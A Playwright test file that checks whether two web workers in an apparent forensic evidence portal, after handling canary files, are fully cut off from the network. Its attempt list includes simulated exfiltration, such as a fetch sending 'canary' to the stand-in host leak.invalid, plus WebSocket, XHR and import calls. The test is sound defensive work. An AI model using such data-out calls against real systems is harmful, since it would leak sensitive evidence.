import { chromium, expect, test, type Browser } from '@playwright/test';
import { chromiumLaunch } from '../browser/launch-options.ts';
import { chromiumSwitches } from '../containment/browser.ts';
import { sorted } from '../containment/what-left.ts';
import { canaries, type Canary } from './canaries.ts';
import { TestHub } from './hub.ts';
import { Portal } from './portal.ts';
import { RecordingProxy } from './recording-proxy.ts';

/**
 * Workers that the portal itself has started and given evidence to, in Chromium, where a driver can get into them. What else is
 * tried, in which browsers, and the story of an officer behind the proxy: see `tests/containment`.
 */
let hub: TestHub;
let proxy: RecordingProxy;
let browser: Browser;
let portal: Portal;
let evidence: readonly Canary[];

test.describe.configure({ mode: 'serial' });

test.beforeAll(async () => {
  hub = await TestHub.start();
  proxy = await RecordingProxy.start(hub.origin);
  evidence = await canaries('drop');
  const { args, ...launch } = chromiumLaunch();
  browser = await chromium.launch({ ...launch, args: [...args, ...chromiumSwitches, ...proxy.chromiumArgs] });
  const context = await browser.newContext();
  context.setDefaultTimeout(20_000);
  portal = new Portal(await context.newPage(), hub.origin);
  await portal.goto('/');
  await portal.installed();
});
test.afterAll(async () => {
  await browser.close();
  await proxy.stop();
  await hub.destroy();
});

for (const { kind, sample, done } of [
  { kind: 'engine', sample: 'jpg', done: 1 },
  { kind: 'heif', sample: 'heic', done: 2 },
]) {
  test(`the ${kind} worker, which has touched evidence, reaches nothing, not even its own hub`, async () => {
    const file = evidence.find(({ path }) => path.endsWith(sample))?.file ?? Buffer.alloc(0);
    await portal.drop([{ name: `canary.${sample}`, bytes: file }]);
    await portal.jobDone(done);
    const engine = portal.page.workers().find((worker) => worker.url().includes(`/workers/${kind}.worker`));
    expect(engine).toBeDefined();
    const before = proxy.exchanges.length;
    const outcomes = await engine?.evaluate(async (origin) => {
      const violations: string[] = [];
      addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      const failed = (opened: EventTarget) =>
        new Promise<string>((resolve) => {
          for (const type of ['error', 'open', 'message'])
            opened.addEventListener(type, () => {
              resolve(type);
            });
        });
      const tries: Record<string, () => Promise<unknown>> = {
        fetch: () => fetch('/api/v1/lookups', { method: 'POST', body: 'canary' }),
        shell: () => fetch('/icon.svg'),
        elsewhere: () => fetch('http://leak.invalid/canary', { mode: 'no-cors' }),
        import: () => import(`${origin}/service-worker.js?canary`),
        request: () =>
          new Promise((resolve, reject) => {
            const asked = new XMLHttpRequest();
            asked.onload = resolve;
            asked.onerror = () => {
              reject(new Error('blocked'));
            };
            asked.open('POST', '/api/v1/lookups');
            asked.send('canary');
          }),
        socket: async () => {
          const end = await failed(new WebSocket(origin.replace('http', 'ws')));
          if (end === 'error') throw new Error('blocked');
        },
        events: async () => {
          const end = await failed(new EventSource('/api/v1/lookups'));
          if (end === 'error') throw new Error('blocked');
        },
      };
      const ended: Record<string, string> = {};
      for (const [name, attempt] of Object.entries(tries)) {
        ended[name] = await attempt().then(
          () => 'reached',
          () => 'blocked',
        );
      }
      return { ended, violations };
    }, hub.origin);
    expect(Object.entries(outcomes?.ended ?? {}).filter(([, end]) => end !== 'blocked')).toEqual([]);
    expect(Object.keys(outcomes?.ended ?? {})).toHaveLength(7);
    expect(outcomes?.violations).toContain('connect-src');
    expect(sorted(proxy.exchanges.slice(before), hub.origin)).toEqual({ api: [], shell: [], neither: [] });
  });
}
